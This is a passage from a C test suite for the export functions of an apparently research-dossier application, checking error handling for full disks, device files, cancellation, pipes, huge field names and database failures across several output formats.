  g_assert_nonnull (strstr (error->message, "the disk is full; free some space"));
  g_assert_null (strstr (error->message, "file descriptor"));
  g_clear_error (&error);
  g_assert_cmpint (lstat (full, &st), ==, 0);
  g_assert_true (S_ISCHR (st.st_mode));
  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 7));

  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, null,
                                         NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (lstat (null, &st), ==, 0);
  g_assert_true (S_ISCHR (st.st_mode));
  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 3));

  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, block,
                                          NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, "disk device"));
  g_clear_error (&error);
  g_assert_cmpint (lstat (block, &st), ==, 0);
  g_assert_true (S_ISBLK (st.st_mode));
  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 0));
}

/* Cancelled before it starts: no format writes anything. */
static void
test_cancel_mid_stream (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();

  g_cancellable_cancel (cancellable);
  g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_HTML, NULL, NULL, out,
                                            cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
}

/* Many highlights: linear cost, and every quote still right. */
static void
test_many_highlights (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("dossier-test-export-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "many.dossier", NULL);
  g_autoptr(DossierProject) project = dossier_project_create (path, "Many", &error);
  g_autoptr(GString) text = g_string_new ("Title\n\n");
  g_autofree char *json = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *out = NULL;
  g_autoptr(GArray) starts = NULL;
  gint64 doc, tag, n = 0;
  guint count = g_test_slow () ? 5000 : 800;

  g_assert_no_error (error);
  starts = g_array_new (FALSE, FALSE, sizeof (gint64));
  for (guint i = 0; i < count; i++)
    {
      gint64 at = g_utf8_strlen (text->str, text->len);

      g_array_append_val (starts, at);
      g_string_append_printf (text, "Ünïcödé sentence %u with 😀 and 漢字. ", i);
    }
  doc = add_document (project, "Many", NULL, NULL, text->str);
  tag = add_colored_tag (project, "T", 0, "#123456");

  for (guint i = 0; i < count; i++)
    {
      gint64 start = g_array_index (starts, gint64, i) + (i % 5);
      gint64 id = dossier_project_add_highlight (project, doc, start, start + 20 + (i % 15),
                                                 &tag, 1, NULL, &error);

      g_assert_no_error (error);
      g_assert_cmpint (id, >, 0);
      n++;
    }

  json = export_string (project, DOSSIER_EXPORT_JSON, 0, 0, &error);
  g_assert_no_error (error);
  out = run_python (json_check, json, NULL);
  if (out != NULL)
    g_assert_true (g_str_has_prefix (out, "1 1 "));
  csv = export_string (project, DOSSIER_EXPORT_CSV, 0, 0, &error);
  g_assert_no_error (error);
  {
    guint lines = 0;

    for (const char *p = csv; (p = strstr (p, "\r\n")) != NULL; p += 2)
      lines++;
    g_assert_cmpuint (lines, ==, n + 1);
  }

  dossier_project_close (project);
  remove_tree (dir);
}

/* ---- Failing midway ------------------------------------------------------ */

/* An output stream that takes @room bytes, then either fails as a full
 * disk does (a short write, then ENOSPC) or (with @cancel) cancels the
 * export and takes the rest. */
#define TEST_TYPE_LIMITED_STREAM (test_limited_stream_get_type ())
G_DECLARE_FINAL_TYPE (TestLimitedStream, test_limited_stream, TEST, LIMITED_STREAM, GOutputStream)

struct _TestLimitedStream
{
  GOutputStream  parent_instance;
  gsize          room;
  gsize          written;
  GCancellable  *cancel;
};

G_DEFINE_FINAL_TYPE (TestLimitedStream, test_limited_stream, G_TYPE_OUTPUT_STREAM)

static gssize
test_limited_stream_write (GOutputStream  *stream,
                           const void     *buffer,
                           gsize           count,
                           GCancellable   *cancellable,
                           GError        **error)
{
  TestLimitedStream *self = TEST_LIMITED_STREAM (stream);

  if (self->written + count > self->room)
    {
      if (self->cancel != NULL)
        {
          g_cancellable_cancel (self->cancel);
        }
      else if (self->written < self->room)
        {
          /* As write () on a disk that fills: what fits, then ENOSPC. */
          count = self->room - self->written;
        }
      else
        {
          g_set_error_literal (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE, g_strerror (ENOSPC));
          return -1;
        }
    }
  self->written += count;
  return count;
}

static void
test_limited_stream_class_init (TestLimitedStreamClass *klass)
{
  G_OUTPUT_STREAM_CLASS (klass)->write_fn = test_limited_stream_write;
}

static void
test_limited_stream_init (TestLimitedStream *self)
{
}

static GOutputStream *
test_limited_stream_new (gsize         room,
                         GCancellable *cancel)
{
  TestLimitedStream *self = g_object_new (TEST_TYPE_LIMITED_STREAM, NULL);

  self->room = room;
  self->cancel = cancel;
  return G_OUTPUT_STREAM (self);
}

/* The export writer's buffer is 256 KiB: more than one buffer's worth
 * must reach the stream before it fails. */
#define PAST_ONE_BUFFER (300 * 1024)

/* A project whose every export is several of the writer's buffers long:
 * a 1.5 MB document quoted at length by 64 highlights, each under the
 * DOSSIER_TEXT_MAX_PASSAGE characters a summary prints of a passage. */
static DossierProject *
make_large_project (const char  *dir,
                    char       **path)
{
  g_autoptr(GString) text = g_string_new ("Harbour works, the long report\n\n");
  DossierProject *project;
  GError *error = NULL;
  gint64 doc, tag, length;

  *path = g_build_filename (dir, "large.dossier", NULL);
  project = dossier_project_create (*path, "Large", &error);
  g_assert_no_error (error);
  /* Long paragraphs: the helper finds them by scanning from the start. */
  for (guint i = 0; text->len < 1500 * 1024; i++)
    g_string_append_printf (text, "Sentence %u: the quay, the ferry and the fares, "
                            "as the council & the crews <see> them.%s", i,
                            i % 200 == 199 ? "\n\n" : " ");
  doc = add_document (project, "The long report", "A. Writer", "The Gazette", text->str);
  tag = add_colored_tag (project, "Quoted", 0, "#3584e4");
  length = g_utf8_strlen (text->str, -1);
  for (gint64 i = 0; i < 64; i++)
    {
      gint64 start = 40 + i * (length / 64);
      gint64 id = dossier_project_add_highlight (project, doc, start, start + 19000,
                                                 &tag, 1, "A long quote", &error);

      g_assert_no_error (error);
      g_assert_cmpint (id, >, 0);
    }
  return project;
}

static const DossierExportFormat large_formats[] = {
  DOSSIER_EXPORT_JSON, DOSSIER_EXPORT_MARKDOWN, DOSSIER_EXPORT_HTML, DOSSIER_EXPORT_CSV,
  DOSSIER_EXPORT_TEXT, DOSSIER_EXPORT_W3C,
};

/* A write error after a buffer's worth went out, and a cancel at the same
 * point, in every format: the export stops there and says why. */
static void
test_stream_fails_midway (void)
{
  g_autofree char *dir = test_make_tmp_dir ("export-midway");
  g_autofree char *path = NULL;
  g_autoptr(DossierProject) project = make_large_project (dir, &path);

  for (guint i = 0; i < G_N_ELEMENTS (large_formats); i++)
    {
      DossierExportFormat format = large_formats[i];
      g_autoptr(GOutputStream) whole = g_memory_output_stream_new_resizable ();
      g_autoptr(GOutputStream) failing = test_limited_stream_new (PAST_ONE_BUFFER, NULL);
      g_autoptr(GCancellable) cancellable = g_cancellable_new ();
      g_autoptr(GOutputStream) cancelling = test_limited_stream_new (PAST_ONE_BUFFER, cancellable);
      g_autoptr(GError) error = NULL;
      gsize size;

      g_test_message ("format %s", dossier_export_format_to_string (format));
      g_assert_true (dossier_export_to_stream (project, format, NULL, NULL, whole, NULL, &error));
      g_assert_no_error (error);
      size = g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (whole));
      g_assert_cmpuint (size, >, 3 * PAST_ONE_BUFFER);

      g_assert_false (dossier_export_to_stream (project, format, NULL, NULL, failing, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
      g_clear_error (&error);
      g_assert_cmpuint (TEST_LIMITED_STREAM (failing)->written, ==, PAST_ONE_BUFFER);

      g_assert_false (dossier_export_to_stream (project, format, NULL, NULL, cancelling,
                                                cancellable, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
      g_assert_cmpuint (TEST_LIMITED_STREAM (cancelling)->written, >, PAST_ONE_BUFFER);
      g_assert_cmpuint (TEST_LIMITED_STREAM (cancelling)->written, <, size);
    }

  dossier_project_close (project);
  remove_tree (dir);
}

/* @n times @c, then "…" if @cut. */
static char *
run_of (char     c,
        gsize    n,
        gboolean cut)
{
  g_autofree char *run = g_strnfill (n, c);

  return g_strconcat (run, cut ? "…" : "", NULL);
}

/* Makes every name @length characters of its own letter, in the file (as
 * another program would), and opens it again: the project's title, the
 * first document's title, author, outlet and source, the tag People's
 * name, and those of the rows given. */
static void
reopen_with_names_of_length (Fixture *f,
                             gint64   stakeholder,
                             gint64   argument,
                             gint64   question,
                             gint64   note,
                             int      length)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *sql = g_strdup_printf ("UPDATE project SET title = printf ('%%.*c', %d, 'p');"
                          "UPDATE documents SET title = printf ('%%.*c', %d, 't'), "
                          "  author = printf ('%%.*c', %d, 'a'), outlet = printf ('%%.*c', %d, 'o'), "
                          "  source = printf ('%%.*c', %d, 'u') WHERE id = %" G_GINT64_FORMAT ";"
                          "UPDATE tags SET name = printf ('%%.*c', %d, 'g') WHERE id = %" G_GINT64_FORMAT ";"
                          "UPDATE stakeholders SET name = printf ('%%.*c', %d, 's') WHERE id = %" G_GINT64_FORMAT ";"
                          "UPDATE arguments SET statement = printf ('%%.*c', %d, 'r') WHERE id = %" G_GINT64_FORMAT ";"
                          "UPDATE questions SET text = printf ('%%.*c', %d, 'q') WHERE id = %" G_GINT64_FORMAT ";"
                          "UPDATE briefings SET title = printf ('%%.*c', %d, 'n') WHERE id = %" G_GINT64_FORMAT ";",
                          length, length, length, length, length, f->doc1, length, f->tag_people,
                          length, stakeholder, length, argument, length, question, length, note);

  dossier_project_close (f->project);
  g_clear_object (&f->project);
  test_sql_exec (f->path, sql);
  f->project = dossier_project_open (f->path, DOSSIER_OPEN_READ_WRITE, &error);
  g_assert_no_error (error);
}

/* A file from elsewhere whose project's title, document's title, author,
 * outlet and source, tag's name, stakeholder's name, question, argument's
 * statement and note's title are 10 MB long: a summary and the note exported to
 * Markdown show each cut ("…" at its end), in its own place, where a
 * passage is evidence for the stakeholder and where it is an argument's
 * perspective, without copying one of them whole out of SQLite (each was,
 * then cut: 1.3 s for the summary, against 4 ms). */
static void
test_huge_names (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *cafe = cite (f, f->h_cafe);
  g_autofree char *body = g_strconcat ("The café ", cafe, ".", NULL);
  g_autofree char *summary = NULL;
  g_autofree char *note_md = NULL;
  g_autofree char *title = run_of ('t', DOSSIER_DOCUMENT_MAX_TITLE - 1, TRUE);
  g_autofree char *outlet = run_of ('o', DOSSIER_DOCUMENT_MAX_OUTLET - 1, TRUE);
  g_autofree char *tag = run_of ('g', DOSSIER_TAG_MAX_NAME - 1, TRUE);
  g_autofree char *stakeholder = run_of ('s', DOSSIER_STAKEHOLDER_MAX_NAME - 1, TRUE);
  g_autofree char *statement = run_of ('r', DOSSIER_ARGUMENT_MAX_TEXT - 1, TRUE);
  g_autofree char *question_text = run_of ('q', DOSSIER_ARGUMENT_MAX_TEXT - 1, TRUE);
  g_autofree char *note_title = run_of ('n', DOSSIER_BRIEFING_MAX_TITLE - 1, TRUE);
  g_autofree char *longer_title = run_of ('t', DOSSIER_DOCUMENT_MAX_TITLE, FALSE);
  g_autofree char *longer_stakeholder = run_of ('s', DOSSIER_STAKEHOLDER_MAX_NAME, FALSE);
  g_autofree char *longer_statement = run_of ('r', DOSSIER_ARGUMENT_MAX_TEXT, FALSE);
  gint64 note, stakeholder_id, question, argument;
  int largest;

  note = dossier_project_add_briefing (f->project, "Note", &f->doc1, 1, body, &error);
  g_assert_no_error (error);
  stakeholder_id = dossier_project_add_stakeholder (f->project, "Harbour Board", NULL,
                                                    DOSSIER_STAKEHOLDER_ORGANISATION, &error);
  g_assert_no_error (error);
  /* An untagged passage, evidence for both ("Evidence for …"). */
  g_assert_cmpint (dossier_project_add_stakeholder_evidence_range (f->project, stakeholder_id, f->doc2, 0, 13, "",
                                                                   DOSSIER_EVIDENCE_NONE, DOSSIER_STANCE_UNKNOWN,
                                                                   &error), >, 0);
  g_assert_no_error (error);
  question = dossier_project_add_question (f->project, "Close the quay?", &error);
  g_assert_no_error (error);
  argument = dossier_project_add_argument (f->project, question, DOSSIER_POLARITY_PRO, "Fewer cars.",
                                           stakeholder_id, 3, &error);
  g_assert_no_error (error);
  g_assert_cmpint (dossier_project_add_argument_evidence_range (f->project, argument, f->doc2, 0, 13, "", &error), >, 0);
  g_assert_no_error (error);
  reopen_with_names_of_length (f, stakeholder_id, argument, question, note, 10000000);

  /* The measure measures: a name read whole takes a piece of 10 MB. */
  test_sqlite_largest_allocation ();
  g_assert_cmpint (sqlite3_exec (dossier_project_get_db (f->project), "SELECT length (name) FROM stakeholders",
                                 NULL, NULL, NULL), ==, SQLITE_OK);
  g_assert_cmpint (test_sqlite_largest_allocation (), >=, 10000000);

  summary = export_ok (f, DOSSIER_EXPORT_MARKDOWN, 0, 0);
  largest = test_sqlite_largest_allocation ();
  g_test_message ("the summary: SQLite's largest allocation %d bytes", largest);
  g_assert_cmpint (largest, <, 1000000);
  g_assert_nonnull (strstr (summary, title));
  g_assert_null (strstr (summary, longer_title));
  g_assert_nonnull (strstr (summary, outlet));
  g_assert_nonnull (strstr (summary, tag));
  g_assert_nonnull (strstr (summary, stakeholder));
  g_assert_null (strstr (summary, longer_stakeholder));
  g_assert_nonnull (strstr (summary, statement));
  g_assert_null (strstr (summary, longer_statement));
  g_assert_nonnull (strstr (summary, question_text));

  {
    g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
    DossierExportFilter filter = { 0, 0, note };

    g_assert_true (dossier_export_to_stream (f->project, DOSSIER_EXPORT_MARKDOWN, &filter, NULL, out, NULL, &error));
    g_assert_no_error (error);
    largest = test_sqlite_largest_allocation ();
    g_test_message ("the note: SQLite's largest allocation %d bytes", largest);
    g_assert_cmpint (largest, <, 1000000);
    g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
    g_assert_true (g_output_stream_close (out, NULL, NULL));
    note_md = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
  }
  g_assert_nonnull (strstr (note_md, note_title));
  g_assert_nonnull (strstr (note_md, title));
  g_assert_null (strstr (note_md, longer_title));

  /* Short again, for the fixture's check of the file. */
  reopen_with_names_of_length (f, stakeholder_id, argument, question, note, 8);
}

/* The project cannot be read midway through an export (another program
 * renamed a table under it): the message says so in words and names the
 * file, not its folder, nor SQLite's English ("no such table"), which goes
 * to the debug log; JSON's lists and the shared reads alike. */
static void
test_db_error_in_words (Fixture       *f,
                        gconstpointer  data)
{
  static const char *const renames[] = {
    "ALTER TABLE highlight_tags RENAME TO gone",   /* a list inside JSON's highlights */
    "ALTER TABLE documents RENAME TO gone",        /* what every format reads */
  };
  g_autofree char *name = g_path_get_basename (f->path);

  for (guint i = 0; i < G_N_ELEMENTS (renames); i++)
    {
      g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
      g_autoptr(GError) error = NULL;
      sqlite3 *other = NULL;

      g_assert_cmpint (sqlite3_open (f->path, &other), ==, SQLITE_OK);
      /* Other tables' references left as they are: renamed back, the
       * schema reads as it did. */
      g_assert_cmpint (sqlite3_exec (other, "PRAGMA legacy_alter_table = ON", NULL, NULL, NULL), ==, SQLITE_OK);
      g_assert_cmpint (sqlite3_exec (other, renames[i], NULL, NULL, NULL), ==, SQLITE_OK);

      g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, stream,
                                                NULL, &error));
      g_assert_error (error, DOSSIER_PROJECT_ERROR, DOSSIER_PROJECT_ERROR_IO);
      if (strstr (error->message, name) == NULL || strstr (error->message, f->dir) != NULL ||
          strstr (error->message, "no such") != NULL || strstr (error->message, "gone") != NULL ||
          strstr (error->message, "export") == NULL)
        g_error ("not said in words: %s", error->message);
      g_test_message ("%s", error->message);

      g_assert_cmpint (sqlite3_exec (other, i == 0 ? "ALTER TABLE gone RENAME TO highlight_tags"
                                                   : "ALTER TABLE gone RENAME TO documents",
                                     NULL, NULL, NULL), ==, SQLITE_OK);
      sqlite3_close (other);
    }

  /* Written behind its back, the file is not checked as sound any more
   * (see test-trust): closed here instead of by the tear-down. */
  dossier_project_close (f->project);
  g_assert_finalize_object (g_steal_pointer (&f->project));
}

/* A folder the user may not write in: the export says so and what to
 * do, and leaves nothing there. Run in a child that is not root (root
 * writes anywhere), which makes its own project. */
static void
test_to_file_unwritable (void)
{
  g_autoptr(DossierProject) project = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autofree char *folder = NULL;
  g_autofree char *out = NULL;
  g_autofree char *left = NULL;

  if (!g_test_subprocess ())
    {
      g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDERR);
      g_test_trap_assert_passed ();
      return;
    }
  if (geteuid () == 0 && (setgid (65534) != 0 || setuid (65534) != 0))
    g_error ("could not give up root");

  project = test_create_project ("export-unwritable", "Ferries", &dir, &path);
  add_document (project, "Fares rise", NULL, NULL, "Ferry fares rise in May, the operator said.");
  folder = g_build_filename (dir, "shared", NULL);
  out = g_build_filename (folder, "fares.json", NULL);
  g_assert_cmpint (g_mkdir (folder, 0555), ==, 0);

  g_assert_false (dossier_export_to_file (project, DOSSIER_EXPORT_JSON, NULL, NULL, out, NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, out));
  g_assert_nonnull (strstr (error->message, "you are not allowed to write there; choose another folder"));
  left = test_list_dir (folder);
  g_assert_cmpstr (left, ==, "");

  g_assert_cmpint (g_chmod (folder, 0755), ==, 0);
  test_finish_project (&project, &dir, &path);
}

/* The HTML writer (libxml2) says nothing of a failed stream on stderr:
 * the export's error is what the user is told, once. */
static void
test_html_fails_quietly (void)
{
  if (g_test_subprocess ())
    {
      g_autofree char *dir = test_make_tmp_dir ("export-midway");
      g_autofree char *path = NULL;
      g_autoptr(DossierProject) project = make_large_project (dir, &path);
      g_autoptr(GOutputStream) failing = test_limited_stream_new (PAST_ONE_BUFFER, NULL);
      g_autoptr(GError) error = NULL;

      g_assert_false (dossier_export_to_stream (project, DOSSIER_EXPORT_HTML, NULL, NULL, failing,
                                                NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
      dossier_project_close (project);
      remove_tree (dir);
      return;
    }

  g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDOUT);
  g_test_trap_assert_passed ();
  g_test_trap_assert_stderr ("");
}

/* A real write error midway through a file: the process may write no
 * more than 300 KiB to any file (RLIMIT_FSIZE, which binds root too), so
 * the kernel refuses the second buffer (EFBIG). The export fails naming
 * the file; the previous file is intact and nothing is left beside it. */
static void
test_file_fails_midway (void)
{
  g_autofree char *dir = test_make_tmp_dir ("export-midway");
  g_autofree char *path = NULL;
  g_autoptr(DossierProject) project = make_large_project (dir, &path);
  g_autofree char *out = g_build_filename (dir, "briefing.md", NULL);
  g_autofree char *files = NULL;
  g_autofree char *files_after = NULL;
  g_autofree char *contents = NULL;
  g_autoptr(GError) error = NULL;
  struct rlimit saved, limited;
  void (*saved_handler) (int);
  gboolean ok;

  g_assert_true (g_file_set_contents (out, "last week's briefing", -1, NULL));
  files = test_list_dir (dir);

  g_assert_cmpint (getrlimit (RLIMIT_FSIZE, &saved), ==, 0);
  limited = saved;
  limited.rlim_cur = PAST_ONE_BUFFER;
  saved_handler = signal (SIGXFSZ, SIG_IGN);
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &limited), ==, 0);
  ok = dossier_export_to_file (project, DOSSIER_EXPORT_MARKDOWN, NULL, NULL, out, NULL, &error);
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &saved), ==, 0);
  signal (SIGXFSZ, saved_handler);

  g_assert_false (ok);
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, "briefing.md"));
  g_assert_true (g_file_get_contents (out, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "last week's briefing");
  files_after = test_list_dir (dir);
  g_assert_cmpstr (files_after, ==, files);

  /* With room, the same export is whole. */
  g_clear_error (&error);
  g_assert_true (dossier_export_to_file (project, DOSSIER_EXPORT_MARKDOWN, NULL, NULL, out, NULL,
                                         &error));
  g_assert_no_error (error);

  dossier_project_close (project);
  remove_tree (dir);
}

typedef struct
{
  const char   *fifo;
  GCancellable *cancellable;
  gsize         read;
} FifoReader;

/* Reads the pipe, cancels the export once a buffer's worth came through,
 * and reads on to the end. */
static gpointer
read_then_cancel (gpointer user_data)
{
  FifoReader *reader = user_data;
  char buf[16384];
  gssize n;
  int fd = open (reader->fifo, O_RDONLY | O_CLOEXEC);

  g_assert_cmpint (fd, >=, 0);
  while ((n = read (fd, buf, sizeof buf)) > 0 || (n < 0 && errno == EINTR))
    {
      if (n < 0)
        continue;
      reader->read += n;
      if (reader->read > PAST_ONE_BUFFER)
        g_cancellable_cancel (reader->cancellable);
    }
  close (fd);
  return NULL;
}

/* A real cancel midway through writing to a pipe (where a reader takes
 * the export as it comes): the export stops, short of its end, and says
 * it was cancelled; the pipe stays a pipe. */
static void
test_fifo_cancelled_midway (void)
{
  g_autofree char *dir = test_make_tmp_dir ("export-midway");
  g_autofree char *path = NULL;
  g_autoptr(DossierProject) project = make_large_project (dir, &path);
  g_autofree char *fifo = g_build_filename (dir, "pipe", NULL);
  g_autoptr(GOutputStream) whole = g_memory_output_stream_new_resizable ();
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  FifoReader reader = { fifo, cancellable, 0 };
  GThread *thread;
  gsize size;

  g_assert_true (dossier_export_to_stream (project, DOSSIER_EXPORT_JSON, NULL, NULL, whole, NULL,
                                           &error));
  size = g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (whole));

  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
  thread = g_thread_new ("reader", read_then_cancel, &reader);
  g_assert_false (dossier_export_to_file (project, DOSSIER_EXPORT_JSON, NULL, NULL, fifo,
                                          cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_thread_join (thread);
  g_assert_cmpuint (reader.read, >, PAST_ONE_BUFFER);
  g_assert_cmpuint (reader.read, <, size);
  assert_file_type (fifo, S_IFIFO);

  dossier_project_close (project);
  remove_tree (dir);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/dossier/export/json-escape", test_json_escape);
  g_test_add_func ("/dossier/export/csv-field", test_csv_field);
  g_test_add_func ("/dossier/export/format-names", test_format_names);
  g_test_add_func ("/dossier/export/csv-formulas", test_csv_formulas);
  g_test_add_func ("/dossier/export/csv-same-paths", test_csv_same_paths);

#define ADD(name, func) \
  g_test_add ("/dossier/export/" name, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("json-contract", test_json_contract);
  ADD ("json-values", test_json_values);
  ADD ("json-filters", test_json_filters);
  ADD ("json-filters-briefings", test_json_filters_briefings);
  ADD ("filter-not-found", test_filter_not_found);
  ADD ("orphans", test_orphans);
  ADD ("csv", test_csv);
  ADD ("csv-tag-filter", test_csv_tag_filter);
  ADD ("markdown", test_markdown);
  ADD ("markdown-tag-filter", test_markdown_tag_filter);
  ADD ("text", test_text_summary);
  ADD ("html-escaping", test_html_escaping);
  ADD ("html-structure", test_html_structure);
  ADD ("to-file", test_to_file);
  ADD ("to-file-failures", test_to_file_failures);
  ADD ("to-file-project", test_to_file_project);
  ADD ("to-file-kinds", test_to_file_kinds);
  ADD ("to-fifo-cancelled", test_to_fifo_cancelled);
  ADD ("to-devices", test_to_devices);
  ADD ("cancel", test_cancel_mid_stream);
  ADD ("db-error-in-words", test_db_error_in_words);
  ADD ("huge-names", test_huge_names);
#undef ADD

#define ADD(name, func) \
  g_test_add ("/dossier/export/summary/" name, Briefing, NULL, briefing_set_up, func, briefing_tear_down)
  ADD ("markdown-by-document", test_summary_markdown_by_document);
  ADD ("markdown-by-tag", test_summary_markdown_by_tag);
  ADD ("markdown-options", test_summary_markdown_options);
  ADD ("text", test_summary_text);
  ADD ("context", test_summary_context);
  ADD ("html", test_summary_html);
  ADD ("analysis", test_summary_analysis);
  ADD ("section-once", test_summary_section_once);
  ADD ("untagged-evidence", test_summary_untagged_evidence);
#undef ADD

  g_test_add_func ("/dossier/export/summary/hostile", test_summaries_hostile);
  g_test_add_func ("/dossier/export/sizes-hostile", test_sizes_hostile);
  g_test_add_func ("/dossier/export/json-empty-project", test_json_empty_project);
  g_test_add_func ("/dossier/export/many-highlights", test_many_highlights);
  g_test_add_func ("/dossier/export/midway/stream", test_stream_fails_midway);
  g_test_add_func ("/dossier/export/midway/html-quiet", test_html_fails_quietly);
  g_test_add_func ("/dossier/export/midway/file", test_file_fails_midway);
  g_test_add_func ("/dossier/export/to-file-unwritable", test_to_file_unwritable);
  g_test_add_func ("/dossier/export/midway/fifo-cancelled", test_fifo_cancelled_midway);

  return g_test_run ();
}
